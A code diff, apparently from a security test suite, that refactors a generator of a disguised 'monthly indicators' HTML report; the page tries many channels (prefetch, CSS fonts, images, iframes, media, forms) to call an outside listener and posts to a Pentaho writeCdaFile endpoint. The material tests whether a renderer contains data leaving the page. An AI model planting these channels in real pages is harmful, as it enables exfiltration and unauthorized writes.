@@ -7,9 +7,6 @@ export interface Attempt {
   readonly detail: string;
 }
 
-/** In its address: it keeps still, until `leaveBy` is called. */
-export const stillQuery = '?quieto=1';
-
 export const waysToLeave = [
   'address',
   'refresh',
@@ -25,11 +22,51 @@ export const waysToLeave = [
 export type WayToLeave = (typeof waysToLeave)[number];
 
 export function buildHostileReport(listenerUrl: string): string {
+  return present(listenerUrl, {
+    head: listHead(listenerUrl),
+    body: listBody(listenerUrl),
+    start: 'void tryEverything().then(tell);',
+  });
+}
+
+/** It tries nothing, until `leaveBy` is called. */
+export function buildStillReport(listenerUrl: string): string {
+  return present(listenerUrl, { head: '', body: '', start: '' });
+}
+
+interface Parts {
+  readonly head: string;
+  readonly body: string;
+  /** What its script does at once. */
+  readonly start: string;
+}
+
+function present(listenerUrl: string, { head, body, start }: Parts): string {
   return `<!doctype html>
 <html lang="pt-BR">
 <head>
 <title>Indicadores do mês</title>
-<link rel="dns-prefetch" href="${listenerUrl}">
+${head}
+</head>
+<body>
+<h1>Indicadores do mês</h1>
+${body}
+<form id="form" action="${listenerUrl}/form" method="post"><input name="a" value="b"></form>
+<form id="product-form" action="/pentaho/plugin/cda/api/writeCdaFile" method="post">
+  <input name="path" value="/public/roubado.cda"><input name="data" value="x">
+</form>
+<script>
+const listener = ${JSON.stringify(listenerUrl)};
+${script}
+${start}
+</script>
+</body>
+</html>
+`;
+}
+
+function listHead(listenerUrl: string): string {
+  return `<link rel="dns-prefetch" href="${listenerUrl}">
 <link rel="preconnect" href="${listenerUrl}">
 <link rel="prefetch" href="${listenerUrl}/link-prefetch">
 <link rel="preload" as="image" href="${listenerUrl}/link-preload">
@@ -43,11 +80,11 @@ export function buildHostileReport(listenerUrl: string): string {
 @import url("${listenerUrl}/css-import");
 @font-face { font-family: stolen; src: url("${listenerUrl}/css-font"); }
 h1 { font-family: stolen; background: url("${listenerUrl}/css-background"); }
-</style>
-</head>
-<body>
-<h1>Indicadores do mês</h1>
-<img src="${listenerUrl}/img" srcset="${listenerUrl}/img-srcset 2x" alt="">
+</style>`;
+}
+
+function listBody(listenerUrl: string): string {
+  return `<img src="${listenerUrl}/img" srcset="${listenerUrl}/img-srcset 2x" alt="">
 <script src="${listenerUrl}/script"></script>
 <iframe src="${listenerUrl}/iframe"></iframe>
 <iframe srcdoc='<img src="${listenerUrl}/srcdoc-img"><script>fetch("${listenerUrl}/srcdoc-fetch")</script>'></iframe>
@@ -55,18 +92,7 @@ h1 { font-family: stolen; background: url("${listenerUrl}/css-background"); }
 <embed src="${listenerUrl}/embed">
 <video src="${listenerUrl}/video" poster="${listenerUrl}/poster" preload="auto"></video>
 <audio src="${listenerUrl}/audio" preload="auto"></audio>
-<svg width="1" height="1"><image href="${listenerUrl}/svg-image" width="1" height="1"/></svg>
-<form id="form" action="${listenerUrl}/form" method="post"><input name="a" value="b"></form>
-<form id="product-form" action="/pentaho/plugin/cda/api/writeCdaFile" method="post">
-  <input name="path" value="/public/roubado.cda"><input name="data" value="x">
-</form>
-<script>
-const listener = ${JSON.stringify(listenerUrl)};
-${script}
-</script>
-</body>
-</html>
-`;
+<svg width="1" height="1"><image href="${listenerUrl}/svg-image" width="1" height="1"/></svg>`;
 }
 
 const script = String.raw`
@@ -259,8 +285,8 @@ window.leaveBy = (way) => {
   ways[way]();
 };
 
-if (!window.location.search.includes('quieto')) void tryEverything().then(() => {
+function tell() {
   document.body.append(Object.assign(element('pre'), { id: 'token', textContent: token }));
   document.body.append(Object.assign(element('pre'), { id: 'outcome', textContent: JSON.stringify(attempts) }));
-});
+}
 `;
